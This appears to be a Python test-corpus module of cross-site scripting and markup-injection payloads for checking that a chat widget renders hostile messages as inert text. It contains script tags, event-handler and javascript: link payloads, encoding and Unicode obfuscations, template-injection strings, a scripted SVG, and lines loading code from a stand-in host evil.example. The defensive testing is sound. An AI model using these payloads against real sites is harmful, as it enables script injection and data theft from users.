"""Hostile message content for the widget: each payload tries to run script or smuggle markup.

Every payload that managed to run would call `__pwned(N)` (N: its number in
the corpus) or set the page title to "pwned"; the browser tests record both,
and dialogs, and expect none. `shows` are pieces of the payload that the
message's visible text must contain: the payload is on screen, as text.

`TEXTS` go in a message's `text` (markdown); `hostile_parts()` are rich parts
(an SVG image with a script inside, a table of payloads, ...).
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Payload:
    text: str
    shows: tuple[str, ...]


def _p(text: str, *shows: str) -> Payload:
    return Payload(text, shows or (text,))


_TEMPLATES: list[Payload] = [
    # Raw HTML: never markup, always text.
    _p("<script>__pwned(NN)</script>"),
    _p("<SCRIPT SRC=//evil.example/NN.js></SCRIPT>", "<SCRIPT SRC="),
    _p("<img src=x onerror=__pwned(NN)>"),
    _p('<img src="x" onerror="__pwned(NN)">'),
    _p("<svg onload=__pwned(NN)>"),
    _p("<svg><script>__pwned(NN)</script></svg>"),
    _p("<body onload=__pwned(NN)>"),
    _p('<iframe src="javascript:__pwned(NN)"></iframe>'),
    _p('<iframe srcdoc="<script>parent.__pwned(NN)</script>"></iframe>', "<iframe srcdoc="),
    _p("<style>body { display: none }</style>"),
    _p("<style>@import 'https://evil.example/NN.css';</style>", "<style>@import"),
    _p('<a href="javascript:__pwned(NN)">click</a>'),
    _p("<a href=javascript:__pwned(NN)>x</a>"),
    _p("<details open ontoggle=__pwned(NN)>"),
    _p("<input autofocus onfocus=__pwned(NN)>"),
    _p("<video><source onerror=__pwned(NN)></video>"),
    _p("<math><mtext><table><mglyph><style><img src=x onerror=__pwned(NN)>", "onerror="),
    _p('<noscript><p title="</noscript><img src=x onerror=__pwned(NN)>">', "</noscript>"),
    _p('<object data="javascript:__pwned(NN)"></object>', "<object data="),
    _p('<embed src="data:text/html,<script>parent.__pwned(NN)</script>">', "<embed src="),
    _p('<form action="javascript:__pwned(NN)"><button>go</button></form>', "<form action="),
    _p('<meta http-equiv="refresh" content="0;url=javascript:__pwned(NN)">', "<meta "),
    _p('<base href="javascript:__pwned(NN)//">', "<base href="),
    _p('<div style="background:url(javascript:__pwned(NN))">x</div>', "<div style="),
    _p("<marquee onstart=__pwned(NN)>x</marquee>", "<marquee"),
    _p('"><script>__pwned(NN)</script>'),
    _p("'--><script>__pwned(NN)</script>"),
    _p("<!-- --><script>__pwned(NN)</script>"),
    _p("<![CDATA[<script>__pwned(NN)</script>]]>"),
    _p("<img src=x onerror=\"document.title='pwned NN'\">", "document.title"),
    # Markdown links to places that are not http(s) or mailto: shown as typed.
    _p("[click me](javascript:__pwned(NN))"),
    _p("[click me](JaVaScRiPt:__pwned(NN))"),
    _p("[click me]( javascript:__pwned(NN) )", "javascript:__pwned"),
    _p("[click me](<javascript:__pwned(NN)>)"),
    _p("[click me](java\tscript:__pwned(NN))", "script:__pwned"),
    _p("[click me](java&#x09;script:__pwned(NN))", "[click me](java", "script:__pwned(NN))"),
    _p("[click me](&#106;avascript:__pwned(NN))", "[click me](javascript:__pwned(NN))"),
    _p("[click me](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDEpPC9zY3JpcHQ+)",
       "data:text/html"),
    _p("[click me](vbscript:msgbox(NN))"),
    _p("[click me](file:///etc/passwd)"),
    _p("[click me](//evil.example/NN)", "//evil.example"),
    _p("[click me](/lab/api/NN)", "/lab/api"),
    _p('[x](https://example.com/ "t\\" onmouseover=\\"__pwned(NN)")', "x"),
    _p("<javascript:__pwned(NN)>"),
    _p("<data:text/html,<script>__pwned(NN)</script>>", "<script>"),
    _p("[a](javascript:__pwned(NN))[b](data:text/html,x)", "javascript:", "data:text/html"),
    _p("[![img](x)](javascript:__pwned(NN))"),
    _p("[[[[[[[[x](javascript:__pwned(NN))]]]]]]]", "javascript:__pwned"),
    _p("[x]: javascript:__pwned(NN)\n\n[x]", "[x]: javascript:"),
    # Markdown images: never loaded from a URL; non-http ones shown as typed.
    _p("![pixel](https://evil.example/pixel.png?NN)", "image: pixel"),
    _p("![x](javascript:__pwned(NN))"),
    _p('![x" onerror="__pwned(NN)](x)', "onerror="),
    _p("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9fcHduZWQoMSkiLz4=)",
       "data:image/svg+xml"),
    # Entities become the characters they name (CommonMark), shown as text:
    # markup spelled with entities is still no markup.
    _p("&lt;script&gt;__pwned(NN)&lt;/script&gt;", "<script>__pwned(NN)</script>"),
    _p("&#60;img src=x onerror=__pwned(NN)&#62;", "<img src=x onerror=__pwned(NN)>"),
    _p("&amp;lt;b&amp;gt; &quot;quoted&quot; &#x27;", "&lt;b&gt; \"quoted\" '"),
    # Unicode tricks: direction overrides, zero-width characters, a BOM.
    _p("\u202egnp.exe <script>__pwned(NN)</script>", "gnp.exe", "<script>"),
    _p("safe \u202e[click](javascript:__pwned(NN))", "javascript:"),
    _p("[x](java\u200bscript:__pwned(NN))", "script:__pwned"),
    _p("\u200b<\u200bscript>__pwned(NN)</script>", "script>__pwned"),
    _p("\ufeff<img src=x onerror=__pwned(NN)>", "<img src=x"),
    _p("\u2066<b>isolated</b>\u2069 \u202d<i>override</i>\u202c", "<b>isolated</b>"),
    # Nested and broken markdown around markup.
    _p("**<script>**__pwned(NN)**</script>**", "<script>"),
    _p("*[x](javascript:__pwned(NN))*", "javascript:"),
    _p("`<script>__pwned(NN)</script>`", "<script>__pwned"),
    _p("```html\n<script>__pwned(NN)</script>\n```", "<script>__pwned"),
    _p("> <img src=x onerror=__pwned(NN)>\n>> nested <b>quote</b>", "<img src=x", "<b>quote</b>"),
    _p("- <svg/onload=__pwned(NN)>\n  - [x](javascript:__pwned(NN))", "<svg/onload", "javascript:"),
    _p("| <script>__pwned(NN)</script> | b |\n|---|---|\n"
       "| <img src=x onerror=__pwned(NN)> | [x](javascript:__pwned(NN)) |",
       "<script>", "onerror=", "javascript:"),
    _p("***___~~<b>bold</b>~~___***", "<b>bold</b>"),
    _p("# <h1 onclick=__pwned(NN)>heading</h1>", "<h1 onclick="),
    _p("\\<script>__pwned(NN)\\</script>", "script>__pwned"),
    _p("<http://example.com/\"onmouseover=\"__pwned(NN)>", "onmouseover"),
    _p("*" * 3000 + "<script>__pwned(NN)</script>", "<script>"),
    _p("[" * 2000 + "x](javascript:__pwned(NN))", "javascript:"),
    # Strings that look like templates: no template engine sees them.
    _p("{{constructor.constructor('__pwned(NN)')()}}"),
    _p("${__pwned(NN)}"),
    _p("<%= __pwned(NN) %>"),
    _p("{{7*7}} #{7*7} ${{7*7}} [[7*7]]", "{{7", "${{7", "[[7"),
    _p("document.title = 'pwned NN'"),
]

TEXTS: list[Payload] = [
    Payload(p.text.replace("NN", str(n)), tuple(s.replace("NN", str(n)) for s in p.shows))
    for n, p in enumerate(_TEMPLATES, start=1)
]
"""The hostile texts, numbered: a payload that runs calls `__pwned(its number)`."""

_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="240" height="80" onload="__pwned(901)">'
    '<script>__pwned(902); document.title = "pwned 902"</script>'
    '<rect width="240" height="80" fill="#4a7"/>'
    '<foreignObject width="240" height="80"><body xmlns="http://www.w3.org/1999/xhtml">'
    '<img src="x" onerror="__pwned(903)"/></body></foreignObject>'
    '<a href="javascript:__pwned(904)"><text x="10" y="45">svg with a script</text></a>'
    "</svg>"
)
SVG_WITH_SCRIPT = base64.b64encode(_SVG.encode()).decode("ascii")
"""An SVG image whose scripts (onload, <script>, foreignObject, a javascript: link) must not run."""


def as_json() -> str:
    """The corpus as JSON, for the front end's node tests (`python -m tests.injection_corpus`)."""
    return json.dumps({"texts": [{"text": p.text, "shows": list(p.shows)} for p in TEXTS],
                       "parts": hostile_parts(), "part_shows": list(PART_SHOWS)})


def hostile_parts() -> list[dict[str, Any]]:
    """Rich parts built to run script: each must show as data, and none may run."""
    return [
        {"type": "image", "mime": "image/svg+xml", "data": SVG_WITH_SCRIPT},
        {"type": "markdown",
         "text": "<img src=x onerror=__pwned(911)> [m](javascript:__pwned(912))"},
        {"type": "code", "language": '"><script>__pwned(913)</script>',
         "text": "<script>__pwned(914)</script>"},
        {"type": "table", "columns": ["<script>__pwned(915)</script>", "<b onclick=x>b</b>"],
         "rows": [["<img src=x onerror=__pwned(916)>", None],
                  ["javascript:__pwned(917)", "{{constructor.constructor('__pwned(918)')()}}"]]},
        {"type": "<img src=x onerror=__pwned(919)>", "text": "an unknown part type"},
        {"type": "image", "mime": "image/png", "data": '"><img src=x onerror=__pwned(920)>'},
        {"type": "image", "mime": "image/png",
         "data": base64.b64encode(b"<script>__pwned(921)</script>").decode("ascii")},
    ]


PART_SHOWS = ("<script>__pwned(914)</script>", "<script>__pwned(915)</script>",
              "<img src=x onerror=__pwned(916)>", "[<img src=x onerror=__pwned(919)>]",
              "<img src=x onerror=__pwned(911)>", "javascript:__pwned(912)")
"""What the message with `hostile_parts()` must show, as text."""


if __name__ == "__main__":
    print(as_json())
